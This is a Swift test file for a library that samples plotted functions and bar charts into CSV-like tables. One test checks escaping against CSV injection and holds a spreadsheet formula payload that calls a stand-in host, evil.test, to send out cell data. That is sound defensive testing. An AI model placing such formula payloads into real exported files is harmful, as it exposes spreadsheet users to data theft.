import Lessons
import Testing

@Suite struct SamplesTests {
  private func samples(_ keys: String) throws -> Samples {
    let figures = report(of: "```figure\nid: a\n\(keys)\n```", sampling: true)?.figures
    return try #require(figures?.first?.samples)
  }

  @Test func curvesHaveValuesAndSlopes() throws {
    let made = try samples("plot: relu(z), relu'(z) for z in -1..3")
    #expect(
      made.header == ["z", "relu(z)", "slope of relu(z)", "relu'(z)", "slope of relu'(z)"])
    #expect(made.rows.count == 201)
    #expect(made.rows.first == ["-1", "0", "0", "0", "0"])
    #expect(made.rows[1][0] == "-0.98")
    #expect(made.rows.contains(["0", "0", "0", "0", "0"]))
    #expect(made.rows.last == ["3", "3", "1", "1", "0"])
  }

  /// A kink stands among them to the last digit.
  @Test func placesApartAreThere() throws {
    let made = try samples("plot: abs(z - 1/3) for z in 0..1")
    #expect(made.rows.count == 202)
    #expect(made.rows.contains(["0.3333333333333333", "0", "0"]))
  }

  @Test func otherRangesLeaveCellsEmpty() throws {
    let made = try samples("plot: z for z in 0..1\nplot: z**2 for z in [2, 0.5]")
    #expect(made.header == ["z", "z", "slope of z", "z**2"])
    #expect(made.rows.count == 202)
    #expect(made.rows.contains(["0.5", "0.5", "1", "0.25"]))
    #expect(made.rows.last == ["2", "", "", "4"])
  }

  @Test func aLogarithmicAxisIsSampledInRatios() throws {
    let made = try samples("x: log\nplot: z for z in 1..1e4")
    #expect(made.rows.count == 201)
    let middle = try #require(Double(made.rows[100][0]))
    #expect(abs(middle - 100) < 1e-9)
  }

  @Test(arguments: [
    ("bars: softmax([1, 1])", ["1", "2"], [["0.5", "0.5"]]),
    (
      "bars: [z, 2*z] for z in [1, 2]\nnames: a, b", ["z", "a", "b"],
      [["1", "1", "2"], ["2", "2", "4"]]
    ),
    ("bars: z, 2*z for z in [1, 2]", ["z", "z", "2 * z"], [["1", "1", "2"], ["2", "2", "4"]]),
    (
      "bars: [1, 2], [3, 4]", ["element", "[1, 2]", "[3, 4]"], [["1", "1", "3"], ["2", "2", "4"]]
    ),
  ])
  func barsAreRowsOfTheirGroups(keys: String, header: [String], rows: [[String]]) throws {
    let made = try samples(keys)
    #expect(made.header == header)
    #expect(made.rows == rows)
  }

  /// Words that a spreadsheet would run, in any place for words (OWASP, CSV Injection).
  @Test func wordsAreNoFormulas() throws {
    let panels = [
      "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")", "+1", "-1", "@SUM(1)", "＝1", "a = 1",
    ]
    let made = try samples(
      panels.map { "panel: \($0)\nplot: -relu(z) for z in -1..1" }.joined(separator: "\n"))
    #expect(made.header == ["panel", "z", "'-relu(z)", "slope of -relu(z)"])
    let titles = made.rows.map { $0[0] }
    #expect(Set(titles) == Set(panels.map { $0 == "a = 1" ? $0 : "'" + $0 }))
    #expect(made.rows[0][1...] == ["-1", "0", "0"])
    #expect(made.rows[0][1...].allSatisfy { Double($0) != nil })
    let bars = try samples("bars: [1, 2], [-3, 4]\nnames: -a, b")
    #expect(bars.rows == [["'-a", "1", "-3"], ["b", "2", "4"]])
    #expect(try samples("bars: [-1, 2]\nnames: -a, b").header == ["'-a", "b"])
    let quoted = try samples("bars: [-1, 2]\nnames: \"hot dog\", \"=1, 2\"")
    #expect(quoted.header == ["hot dog", "'=1, 2"])
  }

  @Test func panelsStandBelowEachOther() throws {
    let made = try samples("panel: First\nplot: z for z in [1, 2]\npanel: Second\nbars: [5, 6]")
    #expect(made.header == ["panel", "z", "1", "2"])
    #expect(
      made.rows == [
        ["First", "1", "", ""], ["First", "2", "", ""], ["Second", "", "5", "6"],
      ])
  }

  @Test func areMadeOnlyWhenWanted() throws {
    #expect(report(of: "```figure\nid: a\nplot: z\n```")?.figures.first?.samples == nil)
  }
}
